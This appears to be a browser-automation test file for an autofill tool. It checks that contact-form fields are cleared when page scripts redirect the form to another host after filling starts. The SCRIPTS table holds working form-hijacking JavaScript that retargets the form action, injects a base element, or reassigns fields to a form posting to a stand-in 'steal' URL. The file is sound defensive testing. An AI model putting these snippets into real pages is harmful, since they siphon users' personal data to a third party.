import { TEST_PROFILE } from '../support/factories.ts';
import { CONTACT_FIELDS, expect, fillWrittenPage, seed, test } from './harness.ts';

// A form that posts home when it is read, and points elsewhere once the fill begins: on the first
// field's focus the page sets a new action, adds a <base> that sends its relative action to
// another host, or hands the fields to another form that posts elsewhere. Nothing may stay in it, and the supporter is told nothing was filled.

const SCRIPTS: Record<string, string> = {
  'new-action': "document.querySelector('form').action = 'https://collect.example.net/steal';",
  'base-element': "const base = document.createElement('base'); base.href = 'https://collect.example.net/'; document.head.append(base);",
  // Only after the last field: everything was written by then.
  'on-the-message': '',
  // The action stays; the fields are handed to another form that posts elsewhere.
  'fields-given-to-another-form': "document.body.insertAdjacentHTML('beforeend', '<form id=\"away\" action=\"https://collect.example.net/steal\" method=\"post\"></form>'); for (const el of document.querySelectorAll('input, textarea')) el.setAttribute('form', 'away');",
  // A form with the fields' form= id, inserted before the one they named.
  'form-id-taken-earlier': "for (const el of document.querySelectorAll('input, textarea')) el.setAttribute('form', 'home'); document.querySelector('form').id = 'home'; document.body.insertAdjacentHTML('afterbegin', '<form id=\"home\" action=\"https://collect.example.net/steal\" method=\"post\"></form>');",
};

const page = (id: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Contact</title></head><body><main>
<h1>Email the office</h1><form action="contact/send" method="post">
${CONTACT_FIELDS}
</form></main><script>
  let moved = false;
  const move = () => { if (moved) return; moved = true; ${SCRIPTS[id] || SCRIPTS['new-action']} };
  ${id === 'on-the-message' ? "document.getElementById('message').addEventListener('input', move);" : "document.addEventListener('focusin', move);"}
</script></body></html>`;

for (const id of Object.keys(SCRIPTS)) {
  test(`a form pointed at another host once the fill has begun (${id}) keeps nothing`, async ({ launched: { context } }) => {
    await seed(context, TEST_PROFILE);
    const { page: tab, said } = await fillWrittenPage(context, `https://www.moves-${id}.senate.gov/contact`, page(id));
    const values = await tab.evaluate(() => [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map((el) => el.value).filter(Boolean));
    expect(values).toEqual([]);
    expect(said).not.toMatch(/Filled [1-9]/);
  });
}
